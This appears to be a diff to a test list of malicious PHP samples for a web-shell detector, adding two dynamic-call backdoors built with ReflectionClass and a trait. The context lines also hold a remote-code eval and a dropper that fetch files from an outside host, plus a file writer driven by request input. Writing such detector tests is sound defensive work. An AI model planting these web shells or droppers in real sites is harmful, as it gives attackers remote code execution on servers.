@@ -166,6 +166,18 @@ MALICIOUS = [
     ("remote code", "<?php eval(file_get_contents('https://203.0.113.5/x.txt'));", CODE),
     ("remote dropper", "<?php copy('http://203.0.113.5/s.txt', 'cache.php');", WRITE),
     (
+        "constructor run through ReflectionClass",
+        "<?php class T { function __construct($p, $v) { $p($v); } }"
+        " $c = new ReflectionClass('T'); $c->newInstance($_POST['k'], $_POST['v']);",
+        DYN,
+    ),
+    (
+        "trait method before an inherited one",
+        "<?php trait D { function eat($a, $b) { $a($b); } } class A { function eat() { echo 1; } }"
+        " class C extends A { use D; } $c = new C(); $c->eat($_POST['k'], $_POST['v']);",
+        DYN,
+    ),
+    (
         "SplFileObject writer",
         "<?php $f = new SplFileObject($_GET['n'], 'w'); $f->fwrite($_POST['c']);",
         WRITE,
